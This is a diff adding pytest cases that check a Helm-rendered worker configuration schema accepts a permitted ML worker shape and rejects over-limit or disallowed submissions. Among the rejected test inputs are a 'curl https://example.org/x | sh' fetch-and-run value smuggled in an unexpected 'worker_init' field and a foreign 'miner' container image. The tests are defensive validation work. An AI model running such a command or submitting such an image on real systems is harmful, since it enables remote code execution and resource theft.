@@ -36,6 +36,18 @@ PROVIDER_FILES = ("sitecustomize.py", "gce_release_provider.py")
 
 
 CASES = [(helm, name) for helm in HELM_VERSIONS for name in sorted(VALUE_SETS)]
+# What submitters pass with their tasks (user_endpoint_config) to the realwork conf, whose workerChoices
+# allow one more image, up to 8 CPUs, 32 GiB and 2 GPUs.
+ML_IMAGE = "registry.example.org/science/gce-worker-ml:4.19.0"
+SUBMISSIONS: dict[str, dict[str, Any]] = {
+    "shape": {"worker_image": ML_IMAGE, "cpu": 4, "memory_gib": 16, "gpus": 2},
+    "foreign-image": {"worker_image": "docker.io/someone/miner:latest"},
+    "too-many-cpus": {"cpu": 9},
+    "too-much-memory": {"memory_gib": 64},
+    "too-many-gpus": {"gpus": 3},
+    "unknown-variable": {"worker_init": "curl https://example.org/x | sh"},
+}
+SUBMISSION_HELMS = ("v3.8", "v4")
 
 
 def case_id(helm: str, set_name: str) -> str:
@@ -64,6 +76,18 @@ def loaded(chart: HelmRenderer, tmp_path_factory: pytest.TempPathFactory) -> dic
                 "user_opts": {},
             }
         )
+    for helm in SUBMISSION_HELMS:
+        data = chart.render_set(helm, VALUE_SETS["realwork"]).configmap["data"]
+        for name, options in SUBMISSIONS.items():
+            cases.append(
+                {
+                    "id": f"{helm}-submission-{name}",
+                    "config_yaml": data["config.yaml"],
+                    "template": data["user_config_template.yaml.j2"],
+                    "schema": json.loads(data["user_config_schema.json"]),
+                    "user_opts": options,
+                }
+            )
     kubeconfig = tmp_path_factory.mktemp("kube") / "config"
     kubeconfig.write_text(yaml.safe_dump(DUMMY_KUBECONFIG), encoding="utf-8")
     result = subprocess.run(
@@ -285,3 +309,43 @@ def test_without_a_proxy_no_process_gets_one(chart: HelmRenderer, helm: str) -> 
 
     assert not {entry["name"].upper() for entry in container["env"]} & {"HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY"}
     assert "user_environment.yaml" not in rendered.configmap["data"]
+
+
+@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
+def test_a_submission_chooses_its_worker_shape_within_the_limits(loaded: dict[str, dict[str, Any]], helm: str) -> None:
+    expected = expected_user(VALUE_SETS["realwork"])
+    gpu = VALUE_SETS["realwork"].values["workerChoices"]["gpuResource"]
+    expected |= {
+        "image": ML_IMAGE,
+        "init_cpu": 4.0,
+        "max_cpu": 4.0,
+        "init_mem": "16384Mi",
+        "max_mem": "16384Mi",
+        "extra_requests": {gpu: "2"},
+        "extra_limits": {gpu: "2"},
+    }
+
+    assert result_of(loaded, f"{helm}-submission", "shape")["user"] == expected
+
+
+@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("foreign-image", "'docker.io/someone/miner:latest' is not one of"),
+        ("too-many-cpus", "9 is greater than the maximum of 8"),
+        ("too-much-memory", "64 is greater than the maximum of 32"),
+        ("too-many-gpus", "3 is greater than the maximum of 2"),
+        ("unknown-variable", "Additional properties are not allowed ('worker_init' was unexpected)"),
+    ],
+)
+def test_the_endpoint_refuses_a_submission_outside_the_limits(
+    loaded: dict[str, dict[str, Any]], helm: str, name: str, said: str
+) -> None:
+    assert said in loaded[case_id(f"{helm}-submission", name)]["error"]
+
+
+def test_without_choices_a_submission_can_choose_nothing(chart: HelmRenderer) -> None:
+    schema = json.loads(chart.render_set("v4", VALUE_SETS["default"]).configmap["data"]["user_config_schema.json"])
+
+    assert schema == {"type": "object", "properties": {}, "additionalProperties": False}
